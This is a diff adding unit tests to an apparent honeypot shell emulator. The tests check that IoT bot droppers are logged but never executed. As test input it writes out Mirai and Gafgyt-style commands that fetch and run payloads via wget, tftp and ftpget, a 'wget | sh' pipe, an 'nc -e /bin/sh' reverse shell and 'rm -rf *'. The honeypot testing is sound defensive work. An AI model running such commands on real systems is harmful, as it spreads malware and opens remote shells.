@@ -725,6 +725,360 @@ test_hostile_lines(void **state)
 	emu_shell_free(sh);
 }
 
+
+/* ---- evidence through the device's observer ---- */
+
+struct obslog {
+	/* Files handed over and events, in one sequence: "F path size" or "E kind detail". */
+	char items[64][160];
+	uint8_t data[16][512];
+	size_t datalen[16];
+	size_t nfiles;
+	size_t n;
+};
+
+static void
+obs_event(void *arg, const char *kind, const char *detail)
+{
+	struct obslog *l = arg;
+	if (l->n < 64)
+		snprintf(l->items[l->n++], sizeof(l->items[0]), "E %s %s", kind, detail);
+}
+
+static void
+obs_file(void *arg, const char *path, const uint8_t *data, size_t len)
+{
+	struct obslog *l = arg;
+	if (l->n < 64)
+		snprintf(l->items[l->n++], sizeof(l->items[0]), "F %s %zu", path, len);
+	if (l->nfiles < 16) {
+		size_t k = len < sizeof(l->data[0]) ? len : sizeof(l->data[0]);
+		memcpy(l->data[l->nfiles], data, k);
+		l->datalen[l->nfiles++] = len;
+	}
+}
+
+static size_t
+obs_count(const struct obslog *l, const char *item)
+{
+	size_t n = 0;
+	for (size_t i = 0; i < l->n; i++)
+		n += strcmp(l->items[i], item) == 0;
+	return n;
+}
+
+static size_t
+obs_index(const struct obslog *l, const char *item)
+{
+	for (size_t i = 0; i < l->n; i++)
+		if (strcmp(l->items[i], item) == 0)
+			return i;
+	fprintf(stderr, "no observer item \"%s\"\n", item);
+	fail();
+	return 0;
+}
+
+static void
+test_file_evidence(void **state)
+{
+	(void)state;
+	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
+	static struct obslog log;
+	memset(&log, 0, sizeof(log));
+	const struct emu_observer obs = { .shell_event = obs_event, .file = obs_file };
+	device.obs = &obs;
+	device.obs_arg = &log;
+	struct emu_shell *sh = NULL;
+	assert_int_equal(emu_shell_new(&sh, &device), 0);
+	struct toride_buf b;
+	toride_buf_init(&b, OUT_MAX);
+
+	/* The Mirai echo path: a dropper written 128 bytes a line, made executable, run. */
+	uint8_t drop[200];
+	memcpy(drop, "\x7f" "ELF\x01\x01\x01", 7);
+	for (size_t i = 7; i < sizeof(drop); i++)
+		drop[i] = (uint8_t)(i * 13 + 1);
+	run(sh, &b, "cd /dev/shm; /bin/busybox cp /bin/echo upnp; > upnp; /bin/busybox chmod 777 upnp", NULL);
+	for (size_t off = 0; off < sizeof(drop); off += 128) {
+		char line[1024];
+		size_t o = (size_t)snprintf(line, sizeof(line), "echo -ne '");
+		for (size_t k = off; k < sizeof(drop) && k < off + 128; k++)
+			o += (size_t)snprintf(line + o, sizeof(line) - o, "\\x%02x", drop[k]);
+		snprintf(line + o, sizeof(line) - o, "' %s upnp; /bin/busybox ECCHI", off == 0 ? ">" : ">>");
+		run(sh, &b, line, NULL);
+	}
+	assert_int_equal(log.nfiles, 0); /* written, not yet run: nothing handed over */
+	run(sh, &b, "./upnp; ./dvrHelper mirai.arm7; /bin/busybox IHCCE", NULL);
+	assert_out_has(&b, "IHCCE: applet not found");
+	/* Contents first, then the execution, exactly once; the bytes are the uploaded ones. */
+	size_t fi = obs_index(&log, "F /dev/shm/upnp 200");
+	size_t ei = obs_index(&log, "E execute /dev/shm/upnp");
+	assert_true(fi < ei);
+	assert_int_equal(log.nfiles, 1);
+	assert_int_equal(log.datalen[0], sizeof(drop));
+	assert_memory_equal(log.data[0], drop, sizeof(drop));
+	/* Run again unchanged: executed again, not sent again. */
+	run(sh, &b, "./upnp", NULL);
+	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 200"), 1);
+	assert_int_equal(obs_count(&log, "E execute /dev/shm/upnp"), 2);
+	/* Changed, then run: sent again with the new contents. */
+	run(sh, &b, "echo -ne '\\x00\\x01' >> upnp; ./upnp", NULL);
+	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 202"), 1);
+	/* Left behind at the end: a non-empty file not run, and (again) nothing already sent. An
+	 * empty file and a removed one are not evidence. */
+	run(sh, &b, "echo 'wget http://198.51.100.23/x' > /tmp/left.sh; > /tmp/empty; echo gone > /tmp/gone; rm /tmp/gone",
+	    NULL);
+	size_t before = log.nfiles;
+	emu_shell_free(sh);
+	assert_int_equal(log.nfiles, before + 1);
+	assert_int_equal(obs_count(&log, "F /tmp/left.sh 28"), 1);
+	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 202"), 1);
+	assert_int_equal(obs_count(&log, "F /tmp/empty 0"), 0);
+	toride_buf_free(&b);
+	device.obs = NULL;
+	device.obs_arg = NULL;
+}
+
+/* ---- droppers as bots type them ---- */
+
+static void
+test_droppers(void **state)
+{
+	(void)state;
+	make_device("mipsel", "BusyBox v1.19.4 (2014-02-18 11:43:50 CST) multi-call binary.");
+	struct emu_shell *sh = NULL;
+	assert_int_equal(emu_shell_new(&sh, &device), 0);
+	static struct events ev;
+	memset(&ev, 0, sizeof(ev));
+	emu_shell_set_event_cb(sh, on_event, &ev);
+	struct toride_buf b;
+	toride_buf_init(&b, OUT_MAX);
+	int ret;
+
+	/* Gafgyt/Bashlite: every download named, each step failing as on a device without a route. */
+	run(sh, &b,
+	    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.5/bins.sh; chmod 777 bins.sh; "
+	    "sh bins.sh; tftp 198.51.100.5 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.5; "
+	    "chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.5 ftp1.sh ftp1.sh; "
+	    "sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
+	    NULL);
+	assert_true(has_event(&ev, "download", "http://198.51.100.5/bins.sh"));
+	assert_true(has_event(&ev, "download", "tftp://198.51.100.5/tftp1.sh"));
+	assert_true(has_event(&ev, "download", "tftp://198.51.100.5/tftp2.sh"));
+	assert_true(has_event(&ev, "download", "ftp://198.51.100.5/ftp1.sh"));
+	assert_out_has(&b, "Connecting to 198.51.100.5 (198.51.100.5:80)\r\n");
+	assert_out_has(&b, "chmod: bins.sh: No such file or directory\r\n");
+	assert_out_has(&b, "sh: can't open 'bins.sh': No such file or directory\r\n");
+	assert_out_has(&b, "tftp: invalid option -- 'c'\r\n");
+	assert_out_has(&b, "tftp: timeout\r\n");
+	run(sh, &b, "pwd", NULL);
+	assert_string_equal((const char *)b.data, "/tmp\r\n");
+
+	/* busybox wget, wget -O- | sh, curl (absent here), nc: recorded, never made. */
+	run(sh, &b, "/bin/busybox wget http://198.51.100.6:8080/m.arm -O /tmp/m; echo $?", NULL);
+	assert_true(has_event(&ev, "download", "http://198.51.100.6:8080/m.arm"));
+	assert_out_has(&b, "wget: can't connect to remote host (198.51.100.6): Connection refused\r\n1\r\n");
+	run(sh, &b, "wget -qO- http://198.51.100.6/i.sh | sh; echo $?", NULL);
+	assert_true(has_event(&ev, "download", "http://198.51.100.6/i.sh"));
+	assert_string_equal((const char *)b.data,
+	                    "wget: can't connect to remote host (198.51.100.6): Connection refused\r\n0\r\n");
+	run(sh, &b, "curl -s -o x -O http://198.51.100.6/c.sh; echo $?", NULL);
+	assert_true(has_event(&ev, "download", "http://198.51.100.6/c.sh"));
+	assert_false(has_event(&ev, "download", "x"));
+	assert_string_equal((const char *)b.data, "sh: curl: not found\r\n127\r\n");
+	run(sh, &b, "nc 198.51.100.6 4444 -e /bin/sh", NULL);
+	assert_true(has_event(&ev, "download", "tcp://198.51.100.6:4444"));
+	run(sh, &b, "wget 198.51.100.6/noscheme", NULL);
+	assert_true(has_event(&ev, "download", "198.51.100.6/noscheme"));
+	assert_string_equal((const char *)b.data, "wget: not an http or ftp url: 198.51.100.6/noscheme\r\n");
+
+	/* A script uploaded with echo runs (interpreted), in its own directory context; exit in it
+	 * ends only the script. Newlines, comments and multi-line loops work as in a file. */
+	run(sh, &b,
+	    "echo -e '#!/bin/sh\\n# fetch\\ncd /\\nfor i in 1 2\\ndo\\n  echo L$i\\ndone\\nif true\\nthen\\n  echo T\\nfi\\n"
+	    "exit 3\\necho never' > /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh; echo st=$?; pwd",
+	    NULL);
+	assert_string_equal((const char *)b.data, "L1\r\nL2\r\nT\r\nst=3\r\n/tmp\r\n");
+	assert_true(has_event(&ev, "execute", "/tmp/d.sh"));
+	run(sh, &b, "sh /tmp/d.sh arg; echo 'echo piped; cd /var' | sh; sh -c 'echo c; exit 4'; echo $?; pwd", &ret);
+	assert_int_equal(ret, EMU_CONTINUE);
+	assert_string_equal((const char *)b.data, "L1\r\nL2\r\nT\r\npiped\r\nc\r\n4\r\n/tmp\r\n");
+	assert_true(has_event(&ev, "execute", "/tmp/d.sh arg"));
+	run(sh, &b, "echo 'cd /var' > /tmp/src; . /tmp/src; pwd; cd /tmp", NULL);
+	assert_string_equal((const char *)b.data, "/var\r\n");
+
+	/* Loops of echo appends, seq, while read from a file and from a pipe. */
+	run(sh, &b, "for i in $(seq 3); do echo -ne '\\x41' >> /tmp/l; done; cat /tmp/l; echo; seq 2 2 6", NULL);
+	assert_string_equal((const char *)b.data, "AAA\r\n2\r\n4\r\n6\r\n");
+	run(sh, &b, "echo -e 'a b\\nc d\\n' > /tmp/lines; while read x y; do echo $y-$x; done < /tmp/lines", NULL);
+	assert_string_equal((const char *)b.data, "b-a\r\nd-c\r\n-\r\n");
+	run(sh, &b, "cat /tmp/lines | while read l; do echo \"[$l]\"; done | head -n 2", NULL);
+	assert_string_equal((const char *)b.data, "[a b]\r\n[c d]\r\n");
+	run(sh, &b, "for i in 1 2; do echo $i; done > /tmp/o; { echo x; echo y; } >> /tmp/o; cat /tmp/o", NULL);
+	assert_string_equal((const char *)b.data, "1\r\n2\r\nx\r\ny\r\n");
+
+	/* A Mirai fork's loader (cowrie issue #1019): dd of the ELF header, the while-read fallback. */
+	run(sh, &b, "cat /proc/mounts; /bin/busybox SMJKD", NULL);
+	assert_out_has(&b, "SMJKD: applet not found");
+	run(sh, &b, "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox SMJKD", NULL);
+	assert_out_has(&b, "cat: can't open '.s': No such file or directory\r\n");
+	run(sh, &b, "tftp; wget; /bin/busybox SMJKD", NULL);
+	assert_out_has(&b, "Usage: tftp");
+	run(sh, &b, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", NULL);
+	/* MIPS little endian (EM_MIPS = 8), 52 bytes, then busybox's statistics. */
+	assert_memory_equal(b.data, "\x7f" "ELF\x01\x01\x01", 7);
+	assert_int_equal(b.data[18], 8);
+	assert_out_has(&b, "1+0 records in\r\n1+0 records out\r\n52 bytes (52B) copied, ");
+	run(sh, &b, "/bin/busybox dd if=/bin/busybox bs=22 count=1 of=/tmp/h; wc -c < /tmp/h", NULL);
+	assert_out_has(&b, "       22\r\n");
+	/* Another fork (cowrie issue #290): backquoted ls -a in a for list. */
+	run(sh, &b,
+	    "mkdir /dev/netslink; >/dev/netslink/.t && cd /dev/netslink/ && for a in `ls -a /dev/netslink/`; do >$a; "
+	    "done; >gaybot; ls -a",
+	    NULL);
+	assert_out_has(&b, "sh: can't create .: Is a directory\r\n");
+	assert_out_has(&b, ".t");
+	assert_out_has(&b, "gaybot");
+
+	/* Globs, nohup and &, ln -s, 2>&1. */
+	run(sh, &b, "cd /tmp; rm -rf *; touch a1 a2 b1 .h; echo a* *1 z*; ls", NULL);
+	assert_string_equal((const char *)b.data, "a1 a2 a1 b1 z*\r\na1  a2  b1\r\n");
+	run(sh, &b, "echo -ne '\\x7fELF' > bot; chmod 777 *; nohup ./bot >/dev/null 2>&1 & echo bg", NULL);
+	assert_string_equal((const char *)b.data, "bg\r\n");
+	assert_true(has_event(&ev, "execute", "/tmp/bot"));
+	run(sh, &b, "ln -s /bin/busybox /tmp/bb; /tmp/bb MIRAI; ls /nope 2>&1 | wc -l", NULL);
+	assert_string_equal((const char *)b.data, "bb: applet not found\r\n        1\r\n");
+	run(sh, &b, "rm -rf *; ls -a", NULL); /* * leaves dot files */
+	assert_string_equal((const char *)b.data, ".  ..  .h\r\n");
+
+	/* The give-up and a last exit close the session. */
+	run(sh, &b, "rm .s; exit", &ret);
+	assert_int_equal(ret, EMU_CLOSE);
+	toride_buf_free(&b);
+	emu_shell_free(sh);
+}
+
+/* ---- per-instance randomisation ---- */
+
+#define NSEEDS 24
+
+/* Output of cmd on a shell of a device with this seed, type and arch. */
+static void
+capture(uint64_t seed, const char *type, const char *arch, const char *cmd, char *out, size_t outlen)
+{
+	make_device(arch, "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
+	snprintf(profile.type, sizeof(profile.type), "%s", type);
+	device.seed = seed;
+	struct emu_shell *sh = NULL;
+	assert_int_equal(emu_shell_new(&sh, &device), 0);
+	struct toride_buf b;
+	toride_buf_init(&b, OUT_MAX);
+	run(sh, &b, cmd, NULL);
+	snprintf(out, outlen, "%.*s", (int)b.len, (const char *)b.data);
+	toride_buf_free(&b);
+	emu_shell_free(sh);
+}
+
+static size_t
+distinct(char v[][4096], size_t n)
+{
+	size_t d = 0;
+	for (size_t i = 0; i < n; i++) {
+		bool seen = false;
+		for (size_t k = 0; k < i; k++)
+			seen = seen || strcmp(v[i], v[k]) == 0;
+		d += !seen;
+	}
+	return d;
+}
+
+static void
+test_randomisation(void **state)
+{
+	(void)state;
+	static const char *const cmds[] = { "cat /proc/meminfo", "grep BogoMIPS /proc/cpuinfo", "ps", "cat /etc/passwd",
+		                            "ls /var/tmp", "dmesg" };
+	/* How many different answers 24 instances must give at least (small pools: passwd, /var/tmp). */
+	static const size_t min_distinct[] = { 20, 20, 20, 12, 10, 20 };
+	static char v[NSEEDS][4096];
+	static char again[4096];
+	for (size_t c = 0; c < sizeof(cmds) / sizeof(cmds[0]); c++) {
+		for (size_t i = 0; i < NSEEDS; i++)
+			capture(0x5eed0000ULL + i * 7919, "DVR", "armv7l", cmds[c], v[i], sizeof(v[i]));
+		if (distinct(v, NSEEDS) < min_distinct[c]) {
+			fprintf(stderr, "%s: only %zu different answers\n", cmds[c], distinct(v, NSEEDS));
+			fail();
+		}
+		/* One seed, one device: the same answer every time. */
+		capture(0x5eed0000ULL + 3 * 7919, "DVR", "armv7l", cmds[c], again, sizeof(again));
+		assert_string_equal(again, v[3]);
+	}
+	/* Values stay in what the class shows. */
+	static const struct {
+		const char *type;
+		unsigned lo_mb, hi_mb;
+	} cls[] = { { "DVR", 55, 256 }, { "IP Camera", 55, 256 }, { "Router", 23, 128 }, { "NAS", 247, 1024 } };
+	for (size_t k = 0; k < sizeof(cls) / sizeof(cls[0]); k++) {
+		for (size_t i = 0; i < NSEEDS; i++) {
+			char out[4096];
+			capture(0xabc00000ULL + i * 104729, cls[k].type, "armv7l", "cat /proc/meminfo; free; dmesg | grep Memory",
+			        out, sizeof(out));
+			unsigned tot = 0, fr = 0, ftot = 0;
+			assert_int_equal(sscanf(strstr(out, "MemTotal:"), "MemTotal: %u kB", &tot), 1);
+			assert_int_equal(sscanf(strstr(out, "MemFree:"), "MemFree: %u kB", &fr), 1);
+			assert_int_equal(sscanf(strstr(out, "Mem: "), "Mem: %u", &ftot), 1);
+			assert_true(tot >= cls[k].lo_mb * 1024 && tot <= cls[k].hi_mb * 1024);
+			assert_true(fr < tot && fr > tot / 10);
+			assert_int_equal(ftot, tot); /* free agrees with /proc/meminfo, dmesg too */
+			char mem[64];
+			snprintf(mem, sizeof(mem), "Memory: %uK/", tot);
+			assert_non_null(strstr(out, mem));
+		}
+	}
+	for (size_t i = 0; i < NSEEDS; i++) {
+		char out[4096];
+		capture(0x77000000ULL + i, "IP Camera", "armv7l", "grep BogoMIPS /proc/cpuinfo", out, sizeof(out));
+		unsigned bi = 0, bf = 0;
+		assert_int_equal(sscanf(out, "BogoMIPS : %u.%u", &bi, &bf), 2);
+		assert_true(bi >= 790 && bi <= 2000);
+		capture(0x77000000ULL + i, "Router", "mips", "grep BogoMIPS /proc/cpuinfo", out, sizeof(out));
+		assert_int_equal(sscanf(out, "BogoMIPS\t\t: %u.%u", &bi, &bf), 2);
+		assert_true(bi >= 250 && bi <= 600);
+		/* Every account is one a firmware image ships: no invented names. */
+		capture(0x77000000ULL + i, "DVR", "armv7l", "cat /etc/passwd", out, sizeof(out));
+		static const char *const ok[] = { "root", "daemon", "bin", "sys", "admin", "support", "mail", "ftp",
+			                          "sshd", "www-data", "operator", "user", "guest", "nobody" };
+		for (char *line = out; *line != '\0';) {
+			size_t nl = strcspn(line, ":");
+			bool found = false;
+			for (size_t k = 0; k < sizeof(ok) / sizeof(ok[0]); k++)
+				found = found || (strlen(ok[k]) == nl && strncmp(line, ok[k], nl) == 0);
+			if (!found)
+				fprintf(stderr, "unexpected account: %.*s\n", (int)nl, line);
+			assert_true(found);
+			char *e = strstr(line, "\r\n");
+			if (e == NULL)
+				break;
+			line = e + 2;
+		}
+		/* The shell's pid is above every daemon's, and ps is in pid order. */
+		capture(0x77000000ULL + i, "Router", "mips", "ps", out, sizeof(out));
+		unsigned last = 0;
+		for (char *line = strstr(out, "\r\n") + 2; *line != '\0';) {
+			unsigned pid = 0;
+			assert_int_equal(sscanf(line, "%u", &pid), 1);
+			assert_true(pid > last);
+			last = pid;
+			line = strstr(line, "\r\n") + 2;
+		}
+	}
+	/* dmesg names the device's MAC; uptime agrees with boot_time. */
+	char out[4096];
+	capture(1, "DVR", "armv7l", "dmesg | grep MAC; uptime", out, sizeof(out));
+	assert_non_null(strstr(out, "eth0: MAC address 00:12:41:a1:b2:c3\r\n"));
+	assert_non_null(strstr(out, " up 3 days,  4:05, "));
+}
+
 int
 main(void)
 {
@@ -735,6 +1089,9 @@ main(void)
 		cmocka_unit_test(test_no_profile_defaults),
 		cmocka_unit_test(test_loops_bounded),
 		cmocka_unit_test(test_hostile_lines),
+		cmocka_unit_test(test_file_evidence),
+		cmocka_unit_test(test_droppers),
+		cmocka_unit_test(test_randomisation),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
